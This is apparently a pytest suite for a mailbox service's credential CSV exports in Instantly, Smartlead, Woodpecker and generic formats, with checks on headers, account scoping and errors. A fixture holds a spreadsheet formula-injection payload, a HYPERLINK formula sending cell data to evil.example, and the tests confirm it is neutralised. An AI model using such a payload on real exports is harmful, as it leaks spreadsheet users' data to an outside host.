"""Credentials as CSV files, through real HTTP on the session's server: the reseller face's
GET /api/v1/integration/exports/csv and the Woodpecker-style face's GET
/rest/v2/domains/mailboxes/export. Files are read back with the `csv` module and compared with
each platform adapter's CSV_HEADER and the mailboxes' credentials as the credentials endpoint
shows them; also the service's paged reading (exports/csv_files.py) on its own."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
import sqlalchemy as sa

from mailwright.accounts import service as accounts
from mailwright.accounts.models import Account
from mailwright.domains.models import Domain
from mailwright.exports import csv_files, instantly, smartlead, woodpecker
from mailwright.mailboxes.models import Mailbox
from mailwright.money import Money
from mailwright.orders import service as orders
from mailwright.orders.requests import DomainOrderRequest, OrderOptions, RequestedDomain, RequestedMailbox
from mailwright.runtime import Runtime
from tests.conftest import OWNER, Customer, LiveServer, client_for, unique, wait_for_order
from tests.reseller.conftest import create_user, error_data, field_errors, reseller_client

CSV_PATH = "/exports/csv"
WOODPECKER_PATH = "/rest/v2/domains/mailboxes/export"
FORMULA_FIRST_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
FORMULA_LAST_NAME = "@SUM(1+1)"


@dataclass
class Estate:
    """A reseller with two users and another customer, every mailbox ordered for real (sandbox)."""

    customer: Customer
    user_id: str  # two domains: ann, bob (formula-looking names), fail-fred (never live); cat
    other_user_id: str  # one domain: max (Microsoft)
    domains: list[str]
    other_user_domain: str
    stranger: Customer  # another customer: one domain, zed
    stranger_user_id: str
    stranger_domain: str


def _order(runtime: Runtime, customer: Customer, user_id: str, provider: str, mailboxes: list[tuple[str, str, str]]) -> str:
    """An order through the core ordering path, each mailbox (address, first name, last name)."""
    names = sorted({address.split("@", 1)[1] for address, _, _ in mailboxes})
    request = DomainOrderRequest(
        provider=provider,
        domains=[RequestedDomain(d, f"domains[{i}]") for i, d in enumerate(names)],
        mailboxes=[RequestedMailbox.at(f"mailboxes[{i}]", *box) for i, box in enumerate(mailboxes)],
    )
    with runtime.db.read() as session:
        account = session.get(Account, customer.id)
        plan = orders.plan_domain_order(session, runtime.settings, runtime.providers, account, request, options=OrderOptions(user_id=user_id))
    with runtime.db.write() as session:
        return orders.place_order(session, runtime, plan).id


def _customer(runtime: Runtime) -> Customer:
    with runtime.db.write() as session:
        account, key = accounts.create_account(session, f"CSV {unique()}", "USD", credit=Money(100_000, "USD"))
    return Customer(account.id, key, "USD")


@pytest.fixture(scope="module")
def estate(server: LiveServer, runtime: Runtime) -> Estate:
    customer, stranger = _customer(runtime), _customer(runtime)
    first, second = sorted(f"{unique('cs')}.com" for _ in range(2))
    other, foreign = f"{unique('co')}.com", f"{unique('cf')}.com"
    with client_for(server, customer) as mine, client_for(server, stranger) as theirs, reseller_client(server, customer) as client, reseller_client(server, stranger) as strangers:
        for face in (mine, theirs):
            assert face.post("/rest/v2/domains/owner", json=OWNER).status_code == 200
        user_id, other_user_id, stranger_user = create_user(client)["userId"], create_user(client)["userId"], create_user(strangers)["userId"]
        placed = [
            (mine, _order(runtime, customer, user_id, "GOOGLE", [
                (f"ann@{first}", FORMULA_FIRST_NAME, FORMULA_LAST_NAME),
                (f"bob@{first}", "Bob", "-Minus"),
                (f"fail-fred@{first}", "Fred", "Failed"),
                (f"cat@{second}", "Cat", "Second"),
            ])),
            (mine, _order(runtime, customer, other_user_id, "MICROSOFT", [(f"max@{other}", "Max", "Other")])),
            (theirs, _order(runtime, stranger, stranger_user, "GOOGLE", [(f"zed@{foreign}", "Zed", "Stranger")])),
        ]
        statuses = [wait_for_order(face, order_id)["status"] for face, order_id in placed]
    assert statuses == ["partially_completed", "completed", "completed"]
    return Estate(customer, user_id, other_user_id, [first, second], other, stranger, stranger_user, foreign)


@pytest.fixture
def client(server: LiveServer, estate: Estate) -> Iterator[httpx.Client]:
    with reseller_client(server, estate.customer) as c:
        yield c


def _domain_id(runtime: Runtime, name: str) -> str:
    with runtime.db.read() as session:
        return session.scalars(sa.select(Domain.id).where(Domain.name == name)).one()


def _rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.text)))


def _by_header(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *lines = rows
    assert all(len(line) == len(header) for line in lines)
    return [dict(zip(header, line)) for line in lines]


def _credentials(client: httpx.Client, user_id: str) -> dict[str, dict[str, Any]]:
    """email -> the mailbox as the reseller face's credentials endpoint shows it (live ones only)."""
    listed = client.get("/mailboxes", params={"userId": user_id, "limit": 100}).json()["data"]["mailboxes"]
    shown = {}
    for mailbox in listed:
        if mailbox["status"] == "LIVE":
            details = client.get("/mailboxes/details", params={"userId": user_id, "mailboxId": mailbox["mailboxId"]})
            shown[mailbox["email"]] = details.json()["data"]
    return shown


# ------------------------------------------------------------------ the reseller face


def test_each_platforms_file_has_its_header_and_the_users_live_mailboxes(client: httpx.Client, estate: Estate) -> None:
    shown = _credentials(client, estate.user_id)
    first, second = estate.domains
    assert sorted(shown) == [f"ann@{first}", f"bob@{first}", f"cat@{second}"]
    files = {name: client.get(CSV_PATH, params={"format": name, "userId": estate.user_id}) for name in ("instantly", "smartlead", "woodpecker")}
    for name, response in files.items():
        assert response.headers["content-disposition"].startswith(f'attachment; filename="mailwright-{name}-'), name
        assert response.headers["content-disposition"].endswith('.csv"')

    rows = _rows(files["instantly"])
    assert tuple(rows[0]) == instantly.CSV_HEADER
    instantly_rows = _by_header(rows)
    assert [r["Email"] for r in instantly_rows] == sorted(shown)  # ordered by address; fail-fred never live
    for row in instantly_rows:
        box = shown[row["Email"]]
        assert (row["IMAP Username"], row["SMTP Username"]) == (row["Email"], row["Email"])
        assert row["IMAP Password"] == row["SMTP Password"] == box["password"]
        assert (row["SMTP Host"], row["SMTP Port"], row["IMAP Host"], row["IMAP Port"]) == (box["smtpHost"], str(box["smtpPort"]), box["imapHost"], str(box["imapPort"]))
        assert (row["Daily Limit"], row["Warmup Enabled"], row["Warmup Limit"]) == ("30", "TRUE", "")

    rows = _rows(files["smartlead"])
    assert tuple(rows[0]) == smartlead.CSV_HEADER
    for row in _by_header(rows):
        box = shown[row["from_email"]]
        assert (row["user_name"], row["imap_user_name"]) == (row["from_email"], row["from_email"])
        assert row["password"] == row["imap_password"] == box["password"]
        assert (row["smtp_host"], row["smtp_port"], row["imap_host"], row["imap_port"]) == (box["smtpHost"], str(box["smtpPort"]), box["imapHost"], str(box["imapPort"]))
        assert (row["max_email_per_day"], row["warmup_enabled"]) == ("30", "TRUE")

    rows = _rows(files["woodpecker"])
    assert tuple(rows[0]) == woodpecker.CSV_HEADER
    for row in _by_header(rows):
        box = shown[row["SMTP email"]]
        assert row["SMTP login"] == row["IMAP email"] == row["SMTP email"]
        assert row["SMTP password"] == row["IMAP password"] == box["password"]
        assert (row["SMTP server"], row["SMTP port"], row["IMAP server"], row["IMAP port"]) == (box["smtpHost"], str(box["smtpPort"]), box["imapHost"], str(box["imapPort"]))
    assert {r["SMTP email"]: r["SMTP from name"] for r in _by_header(rows)}[f"cat@{second}"] == "Cat Second"


def test_the_generic_file_has_every_credential_column(client: httpx.Client, estate: Estate) -> None:
    shown = _credentials(client, estate.other_user_id)
    rows = _rows(client.get(CSV_PATH, params={"format": "generic", "userId": estate.other_user_id}))
    assert tuple(rows[0]) == csv_files.GENERIC_HEADER == (
        "email", "first_name", "last_name", "password", "smtp_host", "smtp_port", "imap_host", "imap_port", "sign_in_note",
    )
    [row] = _by_header(rows)
    box = shown[f"max@{estate.other_user_domain}"]
    assert row == {
        "email": f"max@{estate.other_user_domain}", "first_name": "Max", "last_name": "Other", "password": box["password"],
        "smtp_host": box["smtpHost"], "smtp_port": str(box["smtpPort"]), "imap_host": box["imapHost"], "imap_port": str(box["imapPort"]),
        "sign_in_note": box["signInNote"] or "",
    }


def test_names_that_look_like_formulas_are_neutralised(client: httpx.Client, estate: Estate, runtime: Runtime) -> None:
    response = client.get(CSV_PATH, params={"format": "generic", "userId": estate.user_id, "domainId": _domain_id(runtime, estate.domains[0])})
    rows = {row["email"]: row for row in _by_header(_rows(response))}
    ann, bob = rows[f"ann@{estate.domains[0]}"], rows[f"bob@{estate.domains[0]}"]
    assert (ann["first_name"], ann["last_name"], bob["last_name"]) == ("'" + FORMULA_FIRST_NAME, "'" + FORMULA_LAST_NAME, "'-Minus")
    # Every cell is quoted: a delimiter inside a name never opens a cell of its own in any locale.
    assert all(line.startswith('"') and line.endswith('"') for line in response.text.splitlines())
    smartlead_rows = _by_header(_rows(client.get(CSV_PATH, params={"format": "smartlead", "userId": estate.user_id})))
    assert {r["from_email"]: r["from_name"] for r in smartlead_rows}[f"ann@{estate.domains[0]}"] == f"'{FORMULA_FIRST_NAME} {FORMULA_LAST_NAME}"


def test_without_a_user_the_file_has_every_live_mailbox_of_the_account_only(client: httpx.Client, estate: Estate, runtime: Runtime) -> None:
    rows = _by_header(_rows(client.get(CSV_PATH, params={"format": "woodpecker", "userId": ""})))
    first, second = estate.domains
    assert [r["SMTP email"] for r in rows] == sorted([f"ann@{first}", f"bob@{first}", f"cat@{second}", f"max@{estate.other_user_domain}"])
    one = _by_header(_rows(client.get(CSV_PATH, params={"format": "woodpecker", "domainId": _domain_id(runtime, second)})))
    assert [r["SMTP email"] for r in one] == [f"cat@{second}"]


def test_an_unknown_format_is_400_naming_format_with_the_valid_values(client: httpx.Client, estate: Estate) -> None:
    refused = client.get(CSV_PATH, params={"format": "excel", "userId": estate.user_id})
    assert refused.status_code == 400
    assert field_errors(refused) == {"format": "Must be one of: instantly, smartlead, woodpecker, generic"}
    assert error_data(refused)["code"] == "invalid_fields"
    missing = client.get(CSV_PATH, params={"userId": estate.user_id})
    assert field_errors(missing) == {"format": "Field is required; must be one of: instantly, smartlead, woodpecker, generic"}
    # Every problem at once: the format and a user that does not exist.
    both = client.get(CSV_PATH, params={"format": "xlsx", "userId": "06Hnobody"})
    assert both.status_code == 400 and set(field_errors(both)) == {"format", "userId"}


def test_another_resellers_user_or_domain_is_404(client: httpx.Client, server: LiveServer, estate: Estate, runtime: Runtime) -> None:
    with reseller_client(server, estate.stranger) as strangers:
        # The stranger's own file has only their mailbox.
        theirs = _by_header(_rows(strangers.get(CSV_PATH, params={"format": "generic"})))
        assert [r["email"] for r in theirs] == [f"zed@{estate.stranger_domain}"]
    foreign_domain = _domain_id(runtime, estate.stranger_domain)
    refused = client.get(CSV_PATH, params={"format": "instantly", "userId": estate.stranger_user_id})
    assert refused.status_code == 404 and field_errors(refused) == {"userId": "No such user"}
    # A domain is looked up only for the user named: the unknown user is the one problem.
    refused = client.get(CSV_PATH, params={"format": "instantly", "userId": estate.stranger_user_id, "domainId": foreign_domain})
    assert refused.status_code == 404 and field_errors(refused) == {"userId": "No such user"}
    refused = client.get(CSV_PATH, params={"format": "instantly", "domainId": foreign_domain})
    assert refused.status_code == 404 and field_errors(refused) == {"domainId": "No such domain in your account"}
    # The other user's domain is not this user's.
    refused = client.get(CSV_PATH, params={"format": "instantly", "userId": estate.user_id, "domainId": _domain_id(runtime, estate.other_user_domain)})
    assert refused.status_code == 404 and field_errors(refused) == {"domainId": "No such domain of this user"}


def test_the_file_needs_the_api_key(server: LiveServer) -> None:
    with reseller_client(server) as anonymous:
        refused = anonymous.get(CSV_PATH, params={"format": "generic"})
    assert refused.status_code == 401 and field_errors(refused) == {"cmr-x-api-key": "Header is required"}


# ------------------------------------------------------------------ the Woodpecker-style face


def test_the_woodpecker_face_serves_the_accounts_file(server: LiveServer, estate: Estate) -> None:
    first, second = estate.domains
    with client_for(server, estate.customer) as face:
        everything = face.get(WOODPECKER_PATH, params={"format": "instantly"})
        one = face.get(WOODPECKER_PATH, params={"format": "smartlead", "domain": second.upper()})
    assert everything.headers["content-disposition"].startswith('attachment; filename="mailwright-instantly-')
    rows = _rows(everything)
    assert tuple(rows[0]) == instantly.CSV_HEADER
    assert [r["Email"] for r in _by_header(rows)] == sorted([f"ann@{first}", f"bob@{first}", f"cat@{second}", f"max@{estate.other_user_domain}"])
    assert [r["from_email"] for r in _by_header(_rows(one))] == [f"cat@{second}"]


def test_the_woodpecker_face_refuses_in_its_own_bodies(server: LiveServer, estate: Estate) -> None:
    with client_for(server, estate.customer) as face, client_for(server) as anonymous:
        unknown = face.get(WOODPECKER_PATH, params={"format": "numbers"})
        foreign = face.get(WOODPECKER_PATH, params={"format": "generic", "domain": estate.stranger_domain})
        keyless = anonymous.get(WOODPECKER_PATH, params={"format": "generic"})
    assert unknown.status_code == 422
    body = unknown.json()
    assert (body["type"], body["code"]) == ("validation_error", "invalid_fields")
    assert body["fields"] == [{"field": "format", "issue": "Must be one of: instantly, smartlead, woodpecker, generic", "value": "numbers"}]
    assert foreign.status_code == 404 and foreign.json()["details"] == "Domain not found"
    assert keyless.status_code == 401 and keyless.json()["details"] == "Missing x-api-key header"


# ------------------------------------------------------------------ the service, page by page


def test_the_service_reads_page_by_page_in_address_order(runtime: Runtime, estate: Estate) -> None:
    scope = csv_files.ExportScope(estate.customer.id)
    chunks = list(csv_files.stream_csv(runtime, scope, csv_files.FORMATS["generic"], page_size=1))
    assert len(chunks) == 1 + 4  # the header, then one page per live mailbox
    emails = [row[0] for chunk in chunks[1:] for row in csv.reader(io.StringIO(chunk))]
    with runtime.db.read() as session:
        live = sorted(session.scalars(sa.select(Mailbox.email).where(Mailbox.account_id == estate.customer.id, Mailbox.status == "live")))
    assert emails == live and len(live) == 4
